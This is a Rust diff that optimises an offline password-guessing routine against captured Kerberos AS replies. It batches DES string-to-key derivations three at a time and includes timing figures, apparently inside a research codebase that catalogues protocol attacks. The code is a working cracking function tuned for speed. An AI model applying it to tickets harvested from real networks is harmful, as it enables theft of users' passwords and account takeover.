@@ -16,17 +16,26 @@ use kerberos::encoding::MsgType;
 use kerberos::kdc::hha_key_with;
 use kerberos::messages::{deframe, AsRep, AsReq, EncKdcRepPart, KrbErrorMsg, WireKind};
 use kerberos::{Principal, ProtocolConfig};
-use krb_crypto::des::ScheduledKey;
+use krb_crypto::des::{DesKey, ScheduledKey};
 use krb_crypto::s2k;
+
+/// Guesses derived together: [`crack_as_reply`] runs this many
+/// string-to-key derivations through one lockstep DES round loop. On a
+/// 2-core x86-64 host, per guess against a recorded reply: one lane
+/// 470–480 ns, two 338–350, three 311–323, four 309–322, eight 320–397.
+/// Three is the smallest group at the floor.
+const LANES: usize = 3;
 
 /// Attempts to confirm a password guess against a recorded (or
 /// harvested) AS reply sealed under `K_c` or `{R}K_c`.
 ///
-/// Returns the recovered password if any guess verifies. Each guess is
-/// screened on the reply's first body block: a wrong key almost always
+/// Returns the recovered password if any guess verifies. Keys are
+/// derived [`LANES`] guesses at a time, then each guess is screened in
+/// list order on the reply's first body block: a wrong key almost always
 /// breaks a length word or the envelope header there, and a guess that
-/// passes takes the full open, decode and sanity screen, so the result
-/// is the one the full path alone would give.
+/// passes takes the full open, decode and sanity screen. The first guess
+/// that verifies wins, so the result is the one the full path alone
+/// would give; the group may have derived up to `LANES - 1` keys past it.
 pub fn crack_as_reply(
     config: &ProtocolConfig,
     client: &Principal,
@@ -37,29 +46,50 @@ pub fn crack_as_reply(
     let salt = client.salt();
     let mut deriver = s2k::Deriver::new();
     let mut pt = Vec::new();
-    for guess in guesses {
-        let kc = ScheduledKey::new(deriver.derive(guess, &salt));
-        let key = match challenge_r {
-            Some(r) => ScheduledKey::new(hha_key_with(&kc, r)),
-            None => kc,
-        };
-        let Ok(head) = config.ticket_layer.open_head(&key, 0, enc_part) else { continue };
-        if config.codec.check_envelope(MsgType::EncAsRepPart, head.bytes(), head.len).is_err() {
-            continue;
-        }
-        if config.ticket_layer.open_into(&key, 0, enc_part, &mut pt).is_err() {
-            continue;
-        }
-        let Ok(part) = EncKdcRepPart::decode(config.codec, MsgType::EncAsRepPart, &pt) else {
-            continue;
-        };
-        // Sanity screens against legacy-codec false positives: session
-        // keys are parity-correct and times are sane.
-        if part.session_key.has_odd_parity() && part.server_time <= part.end_time {
-            return Some(guess.clone());
+    for group in guesses.chunks(LANES) {
+        // A short final group fills its spare lanes with its last guess;
+        // only the group's own guesses are screened.
+        let last = group.len() - 1;
+        let keys: [DesKey; LANES] = deriver.derive_lanes(std::array::from_fn(|lane| {
+            (group[lane.min(last)].as_str(), salt.as_str())
+        }));
+        for (guess, kc) in group.iter().zip(keys) {
+            if opens_as_reply(config, kc, enc_part, challenge_r, &mut pt) {
+                return Some(guess.clone());
+            }
         }
     }
     None
+}
+
+/// Whether `kc` (under the challenge, if any) opens `enc_part` as a sane
+/// AS reply part: the one-block head screen, then the full open, decode,
+/// and the parity and time screen.
+fn opens_as_reply(
+    config: &ProtocolConfig,
+    kc: DesKey,
+    enc_part: &[u8],
+    challenge_r: Option<u64>,
+    pt: &mut Vec<u8>,
+) -> bool {
+    let kc = ScheduledKey::new(kc);
+    let key = match challenge_r {
+        Some(r) => ScheduledKey::new(hha_key_with(&kc, r)),
+        None => kc,
+    };
+    let Ok(head) = config.ticket_layer.open_head(&key, 0, enc_part) else { return false };
+    if config.codec.check_envelope(MsgType::EncAsRepPart, head.bytes(), head.len).is_err() {
+        return false;
+    }
+    if config.ticket_layer.open_into(&key, 0, enc_part, pt).is_err() {
+        return false;
+    }
+    let Ok(part) = EncKdcRepPart::decode(config.codec, MsgType::EncAsRepPart, pt) else {
+        return false;
+    };
+    // Sanity screens against legacy-codec false positives: session keys
+    // are parity-correct and times are sane.
+    part.session_key.has_odd_parity() && part.server_time <= part.end_time
 }
 
 /// A4: passive (wiretap) password guessing.
